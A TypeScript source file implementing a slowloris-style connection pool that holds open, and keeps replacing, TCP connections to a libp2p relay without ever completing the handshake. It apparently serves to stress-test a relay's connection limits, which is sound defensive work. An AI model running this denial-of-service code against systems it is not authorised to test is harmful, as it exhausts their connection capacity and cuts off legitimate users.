import { connect, type Socket } from 'node:net'

export interface HalfOpenStats {
  /** TCP connections made. */
  opened: number
  /** Of those, closed by the relay (upgrade timeout, refused over its pending limit...). */
  closedByPeer: number
  /** Held right now. */
  held: number
}

const RECONNECT_DELAY_MS = 200

/**
 * Classic slowloris: TCP connections to the relay's libp2p port that never
 * send a byte, so they never finish the multistream-select + Noise upgrade.
 * Each one closed by the relay is replaced, so `count` stay pending.
 */
export class HalfOpenPool {
  readonly stats: HalfOpenStats = { opened: 0, closedByPeer: 0, held: 0 }
  private readonly host: string
  private readonly port: number
  private readonly count: number
  private readonly sockets = new Set<Socket>()
  private running = false

  constructor (target: string, count: number) {
    const m = /^\/ip4\/([^/]+)\/tcp\/(\d+)/.exec(target)
    if (m == null) throw new Error(`half-open connections need an /ip4/.../tcp/... target, got ${target}`)
    this.host = m[1]
    this.port = Number(m[2])
    this.count = count
  }

  start (): void {
    this.running = true
    for (let i = 0; i < this.count; i++) this.open()
  }

  stop (): void {
    this.running = false
    for (const socket of this.sockets) socket.destroy()
    this.sockets.clear()
    this.stats.held = 0
  }

  private open (): void {
    if (!this.running) return
    const socket = connect({ host: this.host, port: this.port })
    this.sockets.add(socket)
    let connected = false
    socket.on('connect', () => {
      connected = true
      this.stats.opened++
      this.stats.held++
    })
    // whatever the relay says is never answered; reading it keeps the socket from stalling the relay's writes
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.on('close', () => {
      if (!this.sockets.delete(socket)) return
      if (connected) {
        this.stats.closedByPeer++
        this.stats.held--
      }
      setTimeout(() => { this.open() }, RECONNECT_DELAY_MS).unref()
    })
  }
}
